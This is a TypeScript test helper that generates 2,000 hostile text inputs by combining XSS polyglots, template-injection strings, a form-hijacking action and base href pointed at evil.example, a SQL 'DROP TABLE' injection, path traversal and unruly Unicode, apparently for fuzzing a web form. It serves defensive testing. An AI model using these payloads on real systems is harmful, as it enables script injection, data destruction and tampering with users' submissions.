import { HOSTILE } from './hostileTexts';

/** Ways out of every place in which a text can stand in a page, as collections of such texts list them. */
const POLYGLOTS = [
	'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=owned() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=owned()//>\\x3e',
	'">><marquee><img src=x onerror=owned()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=owned()>',
	'\'">><script>owned()</script>',
	'<svg><animate onbegin=owned() attributeName=x dur=1s>',
	'<details open ontoggle=owned()>',
	'<iframe srcdoc="<script>parent.owned()</script>">',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>',
	'<a href="javascript:owned()">x</a>',
	'<meta http-equiv="refresh" content="0;url=javascript:owned()">',
	'<base href="https://evil.example/">',
	'<link rel=stylesheet href="data:text/css,*{display:none}">',
	'<style>*{display:none!important}</style>',
	'<!--<script>owned()//-->',
	'<![CDATA[<script>owned()</script>]]>',
	'&lt;img src=x onerror=owned()&gt;&#x3C;script&#x3E;',
	'{{constructor.constructor("owned()")()}}',
	'${owned()} #{owned()} <%= owned() %> {% raw %}',
	'\\u003cscript\\u003eowned()\\u003c/script\\u003e',
	'data:text/html,<script>owned()</script>',
	'</select></optgroup></datalist></dialog></template><script>owned()</script>',
	'<input autofocus onfocus=owned()>',
	'<button form=review formaction="https://evil.example">Send</button>',
	'<input form=review name=a1 value=0 type=radio checked>',
	'" checked name="a1" value="0',
	"' style='position:fixed;inset:0;z-index:99",
];

const CONTROLS = Array.from({ length: 32 }, (_none, code) => String.fromCharCode(code)).join('x') + '\x7f\x80\x9f\ufeff\ufffe';
const BIDI = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'];
const WIDE = ['W'.repeat(3_000), 'ﷺ'.repeat(400), `a${'\u0301'.repeat(500)}`, '\u{12031}'.repeat(200), '👩‍👩‍👧‍👦'.repeat(200), `${'\t'.repeat(300)}x`, '\u00a0'.repeat(2_000)];

/** 2,000 texts, no two alike: each way out beside each kind of unruly text. */
export function hostileTexts(): string[] {
	const ways = [...POLYGLOTS, ...Object.values(HOSTILE)];
	const beside = ['', CONTROLS, ...BIDI, ...WIDE, 'x\ud800', '\udc00x', '\r\n\r\n', '\u2028\u2029', '\ufff9\ufffa\ufffb', '%00%0a', '../../', "'; DROP TABLE answers; --"];
	const texts = new Set<string>();
	for (let round = 0; texts.size < 2_000; round += 1) {
		for (const way of ways) {
			for (const other of beside) {
				const number = round === 0 ? '' : String(round);
				texts.add(round % 2 === 0 ? `${way}${other}${number}` : `${other}${way}${number}`);
			}
		}
	}
	return [...texts].slice(0, 2_000);
}
